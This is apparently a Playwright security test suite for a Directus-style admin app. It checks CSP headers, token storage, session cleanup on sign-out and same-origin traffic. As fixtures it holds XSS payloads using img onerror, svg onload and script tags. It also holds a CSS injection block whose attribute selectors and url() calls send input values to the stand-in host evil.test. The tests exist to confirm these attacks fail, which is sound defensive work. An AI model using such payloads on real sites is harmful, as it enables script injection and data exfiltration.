import type { Page, Request } from '@playwright/test';
import { CLARA, signInAt, INES } from './support/people';
import { expect, test } from './support/test';

/** Everything in storage that scripts can read, as one text. */
const everythingStored = (page: Page): Promise<string> =>
  page.evaluate(async () => {
    const rowsOf = (opened: IDBDatabase, store: string): Promise<unknown> =>
      new Promise((done) => {
        const asking = opened.transaction(store).objectStore(store).getAll();
        asking.addEventListener('success', () => done(asking.result));
      });
    const worlds = (await indexedDB.databases()).map(
      ({ name = '' }) =>
        new Promise<unknown>((done) => {
          const opening = indexedDB.open(name);
          opening.addEventListener('success', () =>
            done(Promise.all([...opening.result.objectStoreNames].map((store) => rowsOf(opening.result, store)))),
          );
        }),
    );
    return JSON.stringify([
      { ...window.localStorage },
      { ...window.sessionStorage },
      document.cookie,
      await Promise.all(worlds),
    ]);
  });

/** Console errors, including the violations of the content security policy. */
const complaintsOf = (page: Page): string[] => {
  const complaints: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text());
  });
  page.on('pageerror', (error) => complaints.push(error.message));
  return complaints;
};

const PAGES = [
  '/collections',
  '/collections/tags',
  '/collections/tags/3',
  '/collections/articles/3',
  '/collections/articles/+',
  '/collections/landing_page',
];

test('every page has a Content-Security-Policy and does not violate it', async ({ page, actor, base }) => {
  const complaints = complaintsOf(page);
  const policy = (await page.request.get(`${base}/`)).headers()['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("script-src 'self'");
  expect(policy).not.toMatch(/unsafe-(inline|eval)|\*/);
  await signInAt(actor, INES);
  for (const address of PAGES) {
    await actor.opens(address);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.waitForLoadState('networkidle');
  }
  expect(complaints.filter((text) => /content security policy|trusted ?types|refused to/i.test(text))).toEqual([]);
});

test('a hostile title is text, and runs nothing', async ({ page, actor }) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await signInAt(actor, CLARA, '/collections/articles/18');
  const title = 'Why <img src=x onerror=alert(1)> stood in our June newsletter';
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(title);
  await expect.poll(() => actor.item.value('title')).toBe(title);
  await actor.item.changes('title', '<svg onload=alert(2)><script>alert(3)</script>');
  await actor.item.saves('stay');
  await expect.poll(async () => (await actor.announcements()).join(' ')).toMatch(/” saved|Item saved/);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('<svg onload=alert(2)><script>alert(3)</script>');
  expect(await page.locator('img[src="x"], svg[onload]').count()).toBe(0);
  expect(dialogs).toEqual([]);
});

test('the tokens are in no address and in nothing that a script can read', async ({ page, actor }) => {
  const requests: Request[] = [];
  page.on('request', (request) => requests.push(request));
  await signInAt(actor, CLARA, '/collections/tags');
  await expect.poll(() => actor.list.range()).toBe('1–25 of 33');
  await actor.loadsAgain();
  await expect.poll(() => actor.list.range()).toBe('1–25 of 33');

  const tokens = requests
    .map((request) => /^Bearer (.+)$/.exec(request.headers()['authorization'] ?? '')?.[1] ?? '')
    .filter((token) => token !== '');
  const refreshTokens = (await page.context().cookies()).filter(({ name }) => /refresh/.test(name));
  expect(new Set(tokens).size).toBe(2);
  expect(refreshTokens.map(({ httpOnly }) => httpOnly)).toEqual([true]);

  const secrets = [...tokens, ...refreshTokens.map(({ value }) => value)];
  const addresses = requests.map((request) => request.url()).join('\n');
  const stored = await everythingStored(page);
  expect(secrets.filter((secret) => addresses.includes(secret) || stored.includes(secret))).toEqual([]);
});

/** Records the object URLs that the page creates and does not revoke. */
const recordObjectUrls = async (page: Page): Promise<void> => {
  await page.addInitScript(() => {
    const open = new Set<string>();
    Object.assign(window, { openObjectUrls: open });
    const create = URL.createObjectURL.bind(URL);
    const revoke = URL.revokeObjectURL.bind(URL);
    URL.createObjectURL = (source) => {
      const url = create(source);
      open.add(url);
      return url;
    };
    URL.revokeObjectURL = (url) => {
      open.delete(url);
      revoke(url);
    };
  });
};

const openObjectUrls = (page: Page): Promise<readonly string[]> =>
  page.evaluate(() => [...(window as unknown as { readonly openObjectUrls: Set<string> }).openObjectUrls]);

/** Those that the page does not show: the sign-in page has pictures of its own. */
const unusedObjectUrls = async (page: Page): Promise<readonly string[]> => {
  const shown = await page.content();
  return (await openObjectUrls(page)).filter((url) => !shown.includes(url));
};

/** All strings that the page's scripts can still reach, as one text. */
const everythingInMemory = async (page: Page): Promise<string> => {
  const devtools = await page.context().newCDPSession(page);
  const chunks: string[] = [];
  devtools.on('HeapProfiler.addHeapSnapshotChunk', ({ chunk }) => chunks.push(chunk));
  await devtools.send('HeapProfiler.collectGarbage');
  await devtools.send('HeapProfiler.takeHeapSnapshot', { reportProgress: false });
  await devtools.detach();
  return chunks.join('');
};

/** Text of the item that the user reads, and the edit that a crash of the page leaves in the journal. */
const READ = 'Salt roads of the Camargue';
const EDITED = 'quarrelsome-railways';

test('nothing of the session is left after signing out', async ({ page, actor }) => {
  test.setTimeout(90_000);
  await recordObjectUrls(page);
  const tokens = new Set<string>();
  page.on('request', (request) => {
    const token = /^Bearer (.+)$/.exec(request.headers()['authorization'] ?? '')?.[1];
    if (token !== undefined) tokens.add(token);
  });
  await signInAt(actor, CLARA, '/collections/tags/3');
  await actor.item.changes('name', EDITED);
  await expect.poll(async () => (await everythingStored(page)).includes(EDITED)).toBe(true);
  page.once('dialog', (dialog) => void dialog.accept());
  await page.reload();
  await expect.poll(() => actor.recovery.offers()).toEqual(['Name']);
  await actor.goesTo('Places');
  await expect.poll(async () => (await openObjectUrls(page)).length).toBeGreaterThan(0);
  await actor.goesTo('Articles');
  await expect(page.getByText(READ)).toBeVisible();
  expect(tokens.size).toBeGreaterThan(0);
  expect(await everythingInMemory(page)).toContain([...tokens].at(-1));

  await actor.signsOut();
  await actor.signIn.confirms();
  await expect.poll(() => actor.location()).toBe('sign-in');
  await actor.settles();
  expect((await page.context().cookies()).filter(({ name }) => /refresh/.test(name))).toEqual([]);
  const secrets = [...tokens, CLARA.email, READ, EDITED];
  const stored = await everythingStored(page);
  expect(secrets.filter((secret) => stored.includes(secret))).toEqual([]);
  expect(await page.evaluate(() => caches.keys())).toEqual([]);
  await expect.poll(() => unusedObjectUrls(page)).toEqual([]);
  const memory = await everythingInMemory(page);
  expect(secrets.filter((secret) => memory.includes(secret))).toEqual([]);
});

test('the application talks to its own origin alone', async ({ page, actor, base }) => {
  const strangers: string[] = [];
  const { origin } = new URL(base);
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol.startsWith('http') && url.origin !== origin) strangers.push(request.url());
  });
  await signInAt(actor, CLARA, '/collections/articles/3');
  await page.waitForLoadState('networkidle');
  expect(strangers).toEqual([]);
});

test('custom CSS of a project is applied, and causes no requests', async ({ page, actor, base, server }) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  const complaints = complaintsOf(page);
  const css = `
    @import url(https://evil.test/all.css);
    h1 { letter-spacing: 3px !important; }
    </style><script>alert(1)</script><style>
    input[value^="a"] { background: url(https://evil.test/a); }
    input[value^="b"] { background: u\\72l(/assets/own); }
    main { --x: url(//evil.test/x); background-image: image-set("https://evil.test/y" 1x); }
    @font-face { font-family: evil; src: url(https://evil.test/font); }
    main { outline: 2px solid rgb(1, 2, 3) !important; }
  `;
  const [settings] = server.database.rows('directus_settings');
  server.database.put('directus_settings', 1, { ...settings, id: 1, custom_css: css });
  await actor.opens('/login');
  const heading = page.getByRole('heading', { level: 1 });
  await expect(heading).toHaveCSS('letter-spacing', '3px');
  await expect(page.locator('main')).toHaveCSS('outline-color', 'rgb(1, 2, 3)');
  await page.getByRole('textbox', { name: 'Email' }).fill('abba');
  await page.waitForTimeout(300);
  expect(
    asked.filter(
      (url) => !url.startsWith(new URL(base).origin) && !url.startsWith('blob:') && !url.startsWith('data:'),
    ),
  ).toEqual([]);
  expect(asked.filter((url) => url.includes('/assets/own'))).toEqual([]);
  expect(complaints).toEqual(complaints.filter((text) => !text.includes('evil.test')));
  expect(await page.locator('script:not([src])').count()).toBe(0);
});
